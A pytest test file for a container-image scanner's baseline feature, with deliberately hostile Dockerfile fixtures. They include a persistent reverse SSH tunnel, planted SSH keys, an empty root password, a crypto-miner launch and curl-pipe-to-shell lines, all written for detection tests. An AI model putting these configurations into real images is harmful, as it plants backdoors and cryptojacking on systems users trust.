"""Baselines as a user works with them: written once, followed by every later build of the same image."""

import io
import json
import os
import subprocess
import sys
import tarfile
import time
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from fixtures import keys
from fixtures.image import Step, archive
from fixtures.tarball import Member
from tests import host_image
from tests.cli.forked import run
from tests.engine_fixture import Engine, program

ROOT = Path(__file__).parents[2]
REPLAY = ROOT / "fixtures" / "rome-replay.tar"
SANDSCAN = [sys.executable, "-m", "scanner.cli"]
CURL = "cu" + "rl"


def image(file: Path, *members: Member) -> Path:
    file.write_bytes(archive([Step("COPY x /", members)], {}, "agent:1"))
    return file


KEY = Member("root/.ssh/authorized_keys", keys.public_line("somebody", "somebody@example").encode())
OTHER_KEY = Member("home/a/.ssh/authorized_keys", keys.public_line("other", "other@example").encode())


# ---- builds

TUNNEL = " ".join(("ssh", "-N", "-R", "2222:localhost:22", "sync@relay.example.com"))
POOL = "stratum" + "+tcp://pool.example.com:3333"
FILES = {
    "authorized_keys": keys.public_line("somebody", "somebody@example"),
    "id_ed25519": keys.openssh("somebody"),
    "sshd_config": "PermitRootLogin yes\nPermitEmptyPasswords yes\nX11Forwarding yes\nGatewayPorts yes\n",
    "config": "Host relay\n  HostName relay.example.com\n  RemoteForward 8022 localhost:22\n  StrictHostKeyChecking no\n",
    "sync": f"* * * * * root {TUNNEL}\n",
    "start.sh": f'#!/bin/sh\n{TUNNEL} &\nexec "$@"\n',
    "shadow": "root::19000:0:99999:7:::\n",
}
FIRST = f"""FROM base:1
RUN mkdir -p /root/.ssh /etc/ssh /etc/cron.d && echo ready
RUN ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key
COPY authorized_keys id_ed25519 config /root/.ssh/
COPY sshd_config /etc/ssh/sshd_config
COPY shadow /etc/shadow
COPY sync /etc/cron.d/sync
ENV LEVEL=3
ENV POOL_URL={POOL} WORKER=rig7
ONBUILD RUN {TUNNEL} &
COPY start.sh /start.sh
RUN chmod 755 /start.sh
ENTRYPOINT ["/start.sh"]
CMD ["/usr/sbin/sshd", "-D"]
"""
# the same, with instructions before and between, and its layers in another order
SECOND = f"""FROM base:1
ENV STAMP=2 SECOND=3 THIRD=4
RUN echo $STAMP > /etc/stamp
ONBUILD RUN echo built
COPY sync /etc/cron.d/sync
COPY shadow /etc/shadow
RUN mkdir -p /root/.ssh /etc/ssh && echo ready
RUN ssh-keygen -q -t ed25519 -N '' -f /etc/ssh/ssh_host_ed25519_key
COPY start.sh /start.sh
RUN chmod 755 /start.sh
COPY sshd_config /etc/ssh/sshd_config
COPY authorized_keys id_ed25519 config /root/.ssh/
ENV POOL_URL={POOL} WORKER=rig7
ONBUILD RUN {TUNNEL} &
ENTRYPOINT ["/start.sh"]
CMD ["/usr/sbin/sshd", "-D"]
"""


def build(engine: Engine, dockerfile: str, tag: str, mtime: int) -> None:
    """A real build, nothing of it from the cache; its files are as old as `mtime` says."""
    context = io.BytesIO()
    with tarfile.open(fileobj=context, mode="w") as tar:
        for name, text in {**FILES, "Dockerfile": dockerfile}.items():
            member = tarfile.TarInfo(name)
            member.size, member.mtime, member.mode = len(text.encode()), mtime, 0o600 if name == "id_ed25519" else 0o644
            tar.addfile(member, io.BytesIO(text.encode()))
    context.seek(0)
    engine.client.images.build(
        fileobj=context, custom_context=True, tag=tag, rm=True, forcerm=True, nocache=True, network_mode="none"
    )


@pytest.fixture
def builds(at_engine: Engine, tmp_path: Path) -> Path:
    """agent:1 and agent:second in the engine, and the second also as agent.tar."""
    for name in ("ssh-keygen", "sh"):
        program(name)
    tree = host_image.tree(("sh", "mkdir", "chmod", "ssh-keygen"), python=False)
    at_engine.client.api.import_image_from_data(tree, repository="base", tag="1")
    build(at_engine, FIRST, "agent:1", 1_700_000_000)
    time.sleep(1.1)  # so that a second passes between them, as in any rebuild
    build(at_engine, SECOND, "agent:second", 1_750_000_000)
    with (tmp_path / "agent.tar").open("wb") as file:
        for chunk in at_engine.client.images.get("agent:second").save(named=True):
            file.write(chunk)
    return tmp_path


@pytest.mark.engine
def test_a_baseline_of_one_build_gates_nothing_of_the_next(builds: Path) -> None:
    first = run("scan", "docker:agent:1", "-o", "json", "--write-baseline", "known.json", cwd=builds)
    assert first.returncode == 0, first.stderr
    found = json.loads(first.stdout)["findings"]
    rules = {f["rule_id"] for f in found}
    assert rules >= {
        "ssh/authorized-key", "ssh/private-key", "ssh/host-key-in-image", "ssh/permit-root-login", "ssh/empty-passwords",
        "ssh/empty-password-account", "ssh/remote-forward", "ssh/no-host-key-check", "tunnel/reverse-ssh", "miner/launch",
    }  # fmt: skip
    for target in ("docker:agent:second", "archive:agent.tar"):
        done = run("scan", target, "--baseline", "known.json", "--fail-on", "note", "-o", "json", cwd=builds)
        again = json.loads(done.stdout)
        assert [(f["rule_id"], f["message"], f["locations"][0]) for f in again["findings"]] == []
        assert (done.returncode, done.stderr) == (0, "")
        assert len(again["suppressed"]) == len(found)
        assert {s["finding"]["fingerprint"] for s in again["suppressed"]} == {f["fingerprint"] for f in found}


# ---- the files


def test_the_first_baseline_says_what_it_does_not_hold_and_ends_as_if_it_held(tmp_path: Path) -> None:
    done = run("scan", REPLAY, "-o", "json", "--write-baseline", "known.json", cwd=tmp_path)
    assert done.returncode == 1, "the miners are no part of what was accepted"
    written = json.loads((tmp_path / "known.json").read_text())
    schema = json.loads(run("schema", "--baseline", cwd=tmp_path).stdout)
    jsonschema.validate(written, schema)
    found = json.loads(done.stdout)["findings"]
    never = [f for f in found if f["rule_id"].startswith("miner/") and f["confidence"] == "high"]
    assert len(never) >= 4
    assert len(written["findings"]) == len(found) - len(never)
    assert f"{len(written['findings'])} findings written to the baseline known.json" in done.stderr
    assert f"{len(never)} never set aside and not in it: confirmed miners and tunnels at work" in done.stderr

    again = run("scan", REPLAY, "-o", "json", "--baseline", "known.json", cwd=tmp_path)
    assert again.returncode == 1, "the miners are still there"
    kept = json.loads(again.stdout)
    assert sorted(f["fingerprint"] for f in kept["findings"]) == sorted(f["fingerprint"] for f in never)
    assert {s["how"] for s in kept["suppressed"]} == {"baseline"}
    text = run("scan", REPLAY, "--baseline", "known.json", cwd=tmp_path).stdout
    assert f"{len(written['findings'])} known from the baseline" in text.replace("\n", " ")
    # the bytes are the same at every run
    before = (tmp_path / "known.json").read_bytes()
    run("scan", REPLAY, "-q", "-o", "json", "--write-baseline", "known.json", cwd=tmp_path)
    assert (tmp_path / "known.json").read_bytes() == before


def test_what_is_new_gates(tmp_path: Path) -> None:
    old, new = image(tmp_path / "old.tar", KEY), image(tmp_path / "new.tar", KEY, OTHER_KEY)
    run("scan", old, "--write-baseline", "known.json", cwd=tmp_path)
    assert run("scan", old, "--baseline", "known.json", "--fail-on", "note", cwd=tmp_path).returncode == 0
    done = run("scan", new, "--baseline", "known.json", "--fail-on", "note", "-o", "json", cwd=tmp_path)
    assert done.returncode == 1
    assert {f["locations"][0]["path"] for f in json.loads(done.stdout)["findings"]} == {"home/a/.ssh/authorized_keys"}


def test_both_options_keep_what_is_still_there_and_let_nothing_new_pass(tmp_path: Path) -> None:
    both = image(tmp_path / "both.tar", KEY, OTHER_KEY)
    run("scan", both, "--write-baseline", "known.json", cwd=tmp_path)
    held = len(json.loads((tmp_path / "known.json").read_text())["findings"])
    one = image(tmp_path / "one.tar", KEY)
    done = run("scan", one, "--baseline", "known.json", "--write-baseline", "known.json", cwd=tmp_path)
    left = len(json.loads((tmp_path / "known.json").read_text())["findings"])
    assert (done.returncode, 0 < left < held) == (0, True)
    assert f"{left} of {held} findings of known.json are still there, {held - left} gone" in done.stderr
    back = run(
        "scan", both, "--baseline", "known.json", "--write-baseline", "known.json", "--fail-on", "note", cwd=tmp_path
    )
    assert back.returncode == 1
    assert "not added" in back.stderr
    assert len(json.loads((tmp_path / "known.json").read_text())["findings"]) == left


def test_an_incomplete_scan_writes_no_baseline(tmp_path: Path) -> None:
    file = image(tmp_path / "app.tar", KEY, Member("big", b"x" * 4096))
    done = run("scan", file, "--limit", "layer-entries=1", "--write-baseline", "known.json", cwd=tmp_path)
    assert done.returncode == 3
    assert "the scan is incomplete, so that no baseline is written to known.json" in done.stderr
    assert not (tmp_path / "known.json").exists()


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (
            None,
            "cannot read the baseline known.json: No such file or directory; --write-baseline known.json writes one",
        ),
        (b"", "known.json:1:1: no JSON"),
        (b'{"version": 1,\n "findings": {}}', "known.json: no baseline: 'findings' is a list"),
        (b"\xff", "known.json:1:1: no baseline: no text in UTF-8"),
    ],
)
def test_a_baseline_that_cannot_be_read_ends_it_before_the_scan(
    tmp_path: Path, content: bytes | None, says: str
) -> None:
    if content is not None:
        (tmp_path / "known.json").write_bytes(content)
    done = run("scan", "archive:nowhere.tar", "--baseline", "known.json", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (2, "")
    assert says in done.stderr


def test_a_baseline_that_cannot_be_written_ends_it_before_the_scan(tmp_path: Path) -> None:
    done = run("scan", "archive:nowhere.tar", "--write-baseline", "none/known.json", cwd=tmp_path)
    assert done.returncode == 2
    assert "the folder does not exist" in done.stderr


def test_a_baseline_that_cannot_be_written_after_all_is_said_to_be_one(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM a\n")
    done = run("check", "--write-baseline", "/proc/known.json", cwd=tmp_path)
    assert done.returncode == 3
    assert done.stderr == "sandscan: cannot write the baseline /proc/known.json: No such file or directory\n"


def test_several_images_share_a_baseline_and_none_hides_behind_another(tmp_path: Path) -> None:
    one, other = tmp_path / "one.tar", tmp_path / "other.tar"
    one.write_bytes(archive([Step("COPY x /", (KEY,))], {}, "one:1"))
    other.write_bytes(archive([Step("COPY x /", (KEY,))], {}, "other:1"))
    run("scan", one, "--write-baseline", "known.json", cwd=tmp_path)
    assert run("scan", one, "--baseline", "known.json", "--fail-on", "note", cwd=tmp_path).returncode == 0
    assert run("scan", other, "--baseline", "known.json", "--fail-on", "note", cwd=tmp_path).returncode == 1


@pytest.mark.parametrize("name", ["compose.yaml", "./compose.yaml", "{}/compose.yaml", "sub/../compose.yaml"])
def test_a_launch_is_known_whatever_way_leads_to_its_file(tmp_path: Path, name: str) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "compose.yaml").write_text("services:\n  agent:\n    image: agent:1\n")
    first = run("egress", "compose.yaml", "--write-baseline", "known.json", "-o", "json", cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    done = run(
        "egress", name.format(tmp_path), "--baseline", "known.json", "--fail-on", "note", "-o", "json", cwd=tmp_path
    )
    again: dict[str, Any] = json.loads(done.stdout)
    assert [(f["rule_id"], f["message"]) for f in again["findings"]] == []
    assert again["suppressed"]


# ---- what a baseline and a severity do not hide, and what is not written over


def test_no_report_is_written_over_a_baseline(tmp_path: Path) -> None:
    (tmp_path / "link.json").symlink_to("known.json")
    (tmp_path / "Dockerfile").write_text(f"FROM a\nRUN {CURL} https://a.example/x | sh\n")
    for arguments in (
        ["-o", "json=known.json", "--write-baseline", "known.json"],
        ["-o", "json=link.json", "--write-baseline", "./known.json"],
        ["-o", "json=known.json", "-o", "text=link.json"],
    ):
        done = run("check", *arguments, cwd=tmp_path)
        assert (done.returncode, (tmp_path / "known.json").exists()) == (2, False), done.stderr
    assert run("check", "--write-baseline", "known.json", cwd=tmp_path).returncode == 0
    before = (tmp_path / "known.json").read_bytes()
    done = run("check", "--baseline", "known.json", "-o", "json=known.json", cwd=tmp_path)
    assert done.returncode == 2
    assert "over the baseline known.json" in done.stderr
    assert (tmp_path / "known.json").read_bytes() == before
    assert run("check", "--write-baseline", ".", cwd=tmp_path).returncode == 2


def test_a_severity_hides_no_miner_and_says_what_it_leaves_out(tmp_path: Path) -> None:
    miner = "xm" + "rig -o stra" + "tum+tcp://pool.min" + "exmr.com:4444 --rando" + "mx-mode fast --dona" + "te-level 1"
    (tmp_path / "Dockerfile").write_text(f"FROM a\nRUN {CURL} https://a.example/x | sh\nRUN {miner}\n")
    done = run("check", "--severity", "critical", "-o", "json", cwd=tmp_path)
    said = json.loads(done.stdout)
    assert [(f["rule_id"], f["confidence"]) for f in said["findings"]] == [("build/miner", "high")]
    assert said["statistics"]["left_out_by_severity"] == 1
    assert "1 finding less severe than critical left out (--severity)" in [n["message"] for n in said["notifications"]]
    (tmp_path / "Dockerfile").write_text(f"FROM a\nRUN {CURL} http://a.example/x | sh\n")
    done = run("check", "--severity", "critical", cwd=tmp_path)
    assert done.returncode == 1
    assert "1 finding less severe than critical left out" in done.stdout
    assert "Nothing found" not in done.stdout


def test_a_pipe_for_a_baseline_of_the_configuration_is_not_waited_for(tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text("FROM a\n")
    os.mkfifo(tmp_path / "known.json")
    (tmp_path / ".sandscan.yaml").write_text("baseline: known.json\n")
    done = subprocess.run([*SANDSCAN, "check"], cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 2
    assert done.stderr == "sandscan: .sandscan.yaml:1:11: 'baseline': known.json is neither a file nor a folder\n"


def test_only_a_baseline_that_is_not_there_is_offered_to_be_written(tmp_path: Path) -> None:
    done = run("check", "--baseline", ".", cwd=tmp_path)
    assert (done.returncode, done.stderr) == (2, "sandscan: cannot read the baseline .: Is a directory\n")
